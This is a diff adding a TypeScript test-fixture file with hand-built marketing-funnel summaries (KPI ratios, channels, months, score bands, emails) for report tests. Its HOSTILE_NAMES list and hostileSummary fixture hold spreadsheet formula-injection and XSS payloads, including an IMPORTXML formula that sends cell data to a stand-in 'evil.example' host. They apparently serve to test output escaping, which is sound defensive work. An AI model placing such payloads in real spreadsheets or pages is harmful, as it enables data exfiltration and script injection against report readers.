@@ -1,0 +1,226 @@
+/**
+ * Hand-built funnel summaries for the report tests. Counts are literal; every ratio is worked out
+ * here from those counts with SPEC §5's formulas (null when an input is missing or a denominator
+ * is 0), independently of the report code.
+ */
+import type {
+  AmountKey,
+  AuxiliaryKey,
+  ChannelRow,
+  CountKey,
+  EmailTableRow,
+  FunnelSummary,
+  KpiRow,
+  MonthRow,
+  ScoreBandRow,
+} from '../../../src/core/model/summary';
+import type { FunnelSettings } from '../../../src/core/model/types';
+
+type Inputs = { readonly [K in CountKey | AmountKey | AuxiliaryKey]: number | null };
+
+function ratio(numerator: number | null, denominator: number | null): number | null {
+  return numerator === null || denominator === null || denominator === 0 ? null : numerator / denominator;
+}
+
+/** A KPI row from counts and amounts; LTV only when both assumptions are given. */
+export function kpiRow(inputs: Inputs, assumptions?: { grossMargin: number; expectedPurchases: number }): KpiRow {
+  const averageDealSize = ratio(inputs.revenue, inputs.won);
+  const cac = ratio(inputs.cost, inputs.won);
+  const ltv = averageDealSize === null || assumptions === undefined ? null : averageDealSize * assumptions.grossMargin * assumptions.expectedPurchases;
+  return {
+    ...inputs,
+    ctr: ratio(inputs.clicks, inputs.impressions),
+    cpc: ratio(inputs.cost, inputs.clicks),
+    leadConversionRate: ratio(inputs.leads, inputs.sessions),
+    cpl: ratio(inputs.cost, inputs.leads),
+    mqlRate: ratio(inputs.mql, inputs.leads),
+    sqlRate: ratio(inputs.sql, inputs.mql),
+    opportunityRate: ratio(inputs.opportunities, inputs.leads),
+    winRate: ratio(inputs.won, inputs.opportunities),
+    leadToWinRate: ratio(inputs.won, inputs.leads),
+    costPerOpportunity: ratio(inputs.cost, inputs.opportunities),
+    cac,
+    averageDealSize,
+    roas: ratio(inputs.revenue, inputs.cost),
+    ltv,
+    ltvToCac: ratio(ltv, cac),
+    engagementRate: ratio(inputs.engagedSessions, inputs.sessions),
+    downloadRate: ratio(inputs.downloads, inputs.sessions),
+  };
+}
+
+function inputs(
+  impressions: number | null,
+  clicks: number | null,
+  sessions: number | null,
+  engagedSessions: number | null,
+  downloads: number | null,
+  leads: number | null,
+  mql: number | null,
+  sql: number | null,
+  opportunities: number | null,
+  won: number | null,
+  cost: number | null,
+  revenue: number | null,
+): Inputs {
+  return { impressions, clicks, sessions, engagedSessions, downloads, leads, mql, sql, opportunities, won, cost, revenue };
+}
+
+export const LTV_ASSUMPTIONS = { grossMargin: 0.7, expectedPurchases: 3 };
+
+export const JAPANESE_SETTINGS: FunnelSettings = {
+  view: 'cohort',
+  language: 'ja',
+  currency: 'JPY',
+  grossMargin: LTV_ASSUMPTIONS.grossMargin,
+  expectedPurchases: LTV_ASSUMPTIONS.expectedPurchases,
+};
+
+export const ENGLISH_SETTINGS: FunnelSettings = { view: 'cohort', language: 'en', currency: 'JPY' };
+
+export const GENERATED_AT = '2026-04-01T09:30:00+09:00';
+
+/** A phone-book style string that must never reach a report sheet (it only sits in a warning). */
+export const PERSONAL_DATA = 'taro.yamada@example.co.jp';
+
+function month(
+  name: string,
+  row: KpiRow,
+  immature: boolean,
+  leadsChange: number | null,
+  opportunityRateChange: number | null,
+  targets: MonthRow['targets'],
+): MonthRow {
+  return { ...row, month: name, immature, leadsChange, opportunityRateChange, targets };
+}
+
+function band(name: string, leads: number, opportunities: number, won: number): ScoreBandRow {
+  return { band: name, leads, opportunities, won, opportunityRate: ratio(opportunities, leads), winRate: ratio(won, opportunities) };
+}
+
+function email(campaign: string, delivered: number, opens: number | null, clicks: number | null): EmailTableRow {
+  return {
+    campaign,
+    delivered,
+    opens,
+    clicks,
+    openRate: ratio(opens, delivered),
+    clickRate: ratio(clicks, delivered),
+    clickToOpenRate: ratio(clicks, opens),
+  };
+}
+
+const channel = (name: string, row: KpiRow): ChannelRow => ({ ...row, channel: name });
+
+/**
+ * Every tab kind, cohort view, JPY, with LTV assumptions. Channels: 120 + 80 + 40 = 240 leads;
+ * months: 100 + 80 + 60 = 240 leads, the last one immature.
+ */
+export function fullSummary(assumptions: { grossMargin: number; expectedPurchases: number } | undefined = LTV_ASSUMPTIONS): FunnelSummary {
+  const april = kpiRow(inputs(10000, 200, 1400, 900, 70, 100, 50, 25, 20, 6, 400000, 2000000), assumptions);
+  const may = kpiRow(inputs(10000, 220, 1300, 850, 60, 80, 40, 20, 18, 4, 400000, 1400000), assumptions);
+  const june = kpiRow(inputs(10000, 180, 1300, 850, 70, 60, 30, 15, 10, 1, 400000, 400000), assumptions);
+  return {
+    schemaVersion: 1,
+    view: 'cohort',
+    period: { from: '2025-04-01', to: '2025-06-30' },
+    asOf: '2025-07-15',
+    currency: 'JPY',
+    total: kpiRow(inputs(30000, 600, 4000, 2600, 200, 240, 120, 60, 48, 11, 1200000, 3800000), assumptions),
+    byChannel: [
+      channel('Google広告', kpiRow(inputs(30000, 600, 1500, 900, 60, 120, 60, 30, 24, 6, 720000, 1800000), assumptions)),
+      channel('展示会', kpiRow(inputs(0, 0, 0, 0, 0, 80, 50, 25, 20, 5, 480000, 2000000), assumptions)),
+      channel('自然検索', kpiRow(inputs(0, 0, 2500, 1700, 140, 40, 10, 5, 4, 0, 0, 0), assumptions)),
+    ],
+    byMonth: [
+      month('2025-04', april, false, null, null, [
+        { metric: 'leads', target: 90, actual: 100, attainment: 100 / 90 },
+        { metric: 'revenue', target: 1500000, actual: 2000000, attainment: 2000000 / 1500000 },
+      ]),
+      month('2025-05', may, false, (80 - 100) / 100, (18 / 80 - 20 / 100) / (20 / 100), [
+        { metric: 'leads', target: 90, actual: 80, attainment: 80 / 90 },
+      ]),
+      month('2025-06', june, true, (60 - 80) / 80, (10 / 60 - 18 / 80) / (18 / 80), [
+        { metric: 'leads', target: 100, actual: 60, attainment: 60 / 100 },
+        { metric: 'revenue', target: 0, actual: 400000, attainment: null },
+      ]),
+    ],
+    scoreBands: [band('0-19', 100, 5, 1), band('20-39', 60, 10, 2), band('40-59', 40, 12, 3), band('60-79', 25, 12, 3), band('80+', 15, 9, 2)],
+    velocity: { leadToMqlDays: 6, mqlToSqlDays: 12.5, sqlToOpportunityDays: 9, opportunityToWonDays: null, leadToWonDays: 41 },
+    email: [email('4月メルマガ', 5000, 1500, 150), email('ウェビナー案内', 2000, null, 40), email('テスト配信', 0, 0, 0)],
+    findings: [
+      { code: 'weakest_step', message: 'いちばん落ち込みが大きいのは 商談 → 受注 です（商談48件のうち受注11件、22.9%）。' },
+      { code: 'channel_outlier', message: '展示会 の商談化率は 25.0% で、全体の 20.0% を大きく上回っています（リード80件）。' },
+    ],
+    sources: [
+      { tab: '広告', kind: 'ads', rowsRead: 90, rowsSkipped: 2 },
+      { tab: 'リード', kind: 'leads', rowsRead: 245, rowsSkipped: 5 },
+      { tab: 'メモ', kind: null, rowsRead: 0, rowsSkipped: 0 },
+    ],
+    warnings: [
+      { tab: 'リード', row: 12, field: 'created_date', code: 'unparseable_date', message: `12行目（${PERSONAL_DATA}）の作成日が読めません` },
+    ],
+  };
+}
+
+/**
+ * Only a leads tab: no ads or traffic (their counts and cost are null), no score, stage dates,
+ * email or findings. Period view, USD. Zero opportunities make every rate over them null.
+ */
+export function leadsOnlySummary(): FunnelSummary {
+  const counts = (leads: number, mql: number, sql: number) => kpiRow(inputs(null, null, null, null, null, leads, mql, sql, 0, 0, null, 0));
+  return {
+    schemaVersion: 1,
+    view: 'period',
+    period: { from: '2025-10-01', to: '2025-10-31' },
+    asOf: '2025-10-31',
+    currency: 'USD',
+    total: counts(50, 20, 10),
+    byChannel: [channel('(not set)', counts(30, 12, 6)), channel('Webinar', counts(20, 8, 4))],
+    byMonth: [month('2025-10', counts(50, 20, 10), false, null, null, [])],
+    scoreBands: [],
+    velocity: { leadToMqlDays: null, mqlToSqlDays: null, sqlToOpportunityDays: null, opportunityToWonDays: null, leadToWonDays: null },
+    email: [],
+    findings: [],
+    sources: [{ tab: 'Leads', kind: 'leads', rowsRead: 50, rowsSkipped: 0 }],
+    warnings: [],
+  };
+}
+
+/** Channel, campaign, tab, band, metric and finding texts an attacker could choose. */
+export const HOSTILE_NAMES = [
+  '=HYPERLINK("http://x","y")',
+  '+81-3',
+  '-5',
+  '@SUM(A1)',
+  '＝1+1',
+  '*',
+  '>0',
+  '<img src=x onerror=alert(1)>',
+  '=IMPORTXML("http://evil.example/?d="&A1,"//a")',
+  '\t=1+1',
+  "'quoted",
+  'TRUE',
+  '2025-04',
+] as const;
+
+/** Every user-derived string of the summary is hostile; channel i has 10 × (n − i) leads. */
+export function hostileSummary(): FunnelSummary {
+  const base = fullSummary(undefined);
+  const count = HOSTILE_NAMES.length;
+  const byChannel = HOSTILE_NAMES.map((name, index) => {
+    const leads = 10 * (count - index);
+    return channel(name, kpiRow(inputs(1000 + index, 50 + index, 300 + index, 200, 10, leads, leads / 2, leads / 5, index + 1, index % 3, 10000 * (index + 1), 5000 * index)));
+  });
+  return {
+    ...base,
+    byChannel,
+    byMonth: base.byMonth.map((row, index) =>
+      index === 0 ? { ...row, targets: [...row.targets, { metric: '=SUM(A1)', target: 10, actual: 4, attainment: 0.4 }] } : row,
+    ),
+    scoreBands: [band('=1+1', 10, 5, 1), band('-20', 20, 4, 0)],
+    email: HOSTILE_NAMES.slice(0, 4).map((name, index) => email(name, 1000 * (index + 1), 100 * (index + 1), 10 * (index + 1))),
+    findings: [{ code: 'channel_outlier', message: '=HYPERLINK("http://x","y") の商談化率が全体と大きく違います。' }],
+    sources: [{ tab: '=IMPORTXML("http://evil.example","//a")', kind: 'ads', rowsRead: 3, rowsSkipped: 1 }],
+  };
+}
